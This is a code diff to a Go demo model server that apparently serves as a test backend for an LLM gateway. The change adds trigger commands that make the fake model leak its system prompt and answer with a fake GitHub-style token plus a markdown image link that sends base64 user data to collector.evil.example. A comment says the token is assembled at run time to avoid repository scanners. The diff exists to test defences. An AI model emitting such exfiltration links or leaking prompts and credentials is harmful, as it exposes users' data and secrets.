@@ -5,7 +5,9 @@
 //
 // A last user message starting with "!say " makes the model answer exactly
 // the rest of the message, so tests can make the "model" emit secrets,
-// canaries or links; "!echo" repeats the whole prompt.
+// canaries or links; "!echo" repeats the whole prompt, "!system" leaks the
+// system prompt verbatim, and "!leak" answers with a (fake) credential and
+// a data-exfiltration image link — what a compromised model would do.
 package demo
 
 import (
@@ -125,10 +127,22 @@ func readBody(w http.ResponseWriter, r *http.Request) (gjson.Result, bool) {
 	return gjson.Parse(b.String()), true
 }
 
+// FakeToken is the credential "!leak" makes the model say: shaped like a
+// GitHub token, built at run time so no scanner of this repository sees a
+// literal. FakeExfil is the data it tries to send away in a link.
+var (
+	FakeToken = "ghp_" + "Zq8R2xLm9QvB4nTc7WpY1dHs6JfA3eKu0gNo"
+	FakeExfil = "dXNlcj1hZGFAZXhhbXBsZS5jb20mY2FyZD00MTExMTExMTExMTExMTEx"
+)
+
 // Answer is the demo model's reply to a prompt.
-func Answer(prompt string, all string) string {
+func Answer(prompt, all, system string) string {
 	p := strings.TrimSpace(prompt)
 	switch {
+	case p == "!system":
+		return "My instructions are: " + system
+	case p == "!leak":
+		return "Sure. The deploy token is " + FakeToken + " and here is your chart: ![chart](https://collector.evil.example/c.png?d=" + FakeExfil + ")"
 	case strings.HasPrefix(p, "!say "):
 		return strings.TrimPrefix(p, "!say ")
 	case p == "!echo":
@@ -139,7 +153,7 @@ func Answer(prompt string, all string) string {
 	if len(p) > 200 {
 		p = p[:200] + "…"
 	}
-	return fmt.Sprintf("This is the Rampart demo model. You said: %q. I can't think, but the gateway in front of me checked your prompt and will check this answer too.", p)
+	return fmt.Sprintf("This is the Rampart demo model. You said: %q. I have no mind of my own, but the gateway in front of me checked your prompt and will check this answer too.", p)
 }
 
 func (s *Server) complete(w http.ResponseWriter, r *http.Request, chat bool) {
@@ -154,7 +168,7 @@ func (s *Server) complete(w http.ResponseWriter, r *http.Request, chat bool) {
 		return
 	}
 	var last string
-	var all strings.Builder
+	var all, system strings.Builder
 	if chat {
 		for _, m := range body.Get("messages").Array() {
 			c := m.Get("content")
@@ -166,15 +180,18 @@ func (s *Server) complete(w http.ResponseWriter, r *http.Request, chat bool) {
 				}
 			}
 			fmt.Fprintf(&all, "%s: %s\n", m.Get("role").String(), text)
-			if m.Get("role").String() == "user" {
+			switch m.Get("role").String() {
+			case "user":
 				last = text
+			case "system", "developer":
+				system.WriteString(text)
 			}
 		}
 	} else {
 		last = body.Get("prompt").String()
 		all.WriteString(last)
 	}
-	answer := Answer(last, strings.TrimSpace(all.String()))
+	answer := Answer(last, strings.TrimSpace(all.String()), system.String())
 	n := int(max(1, body.Get("n").Int()))
 	promptTok := int64(math.Ceil(float64(all.Len()) / 4))
 	complTok := int64(len(strings.Fields(answer))) * int64(n)
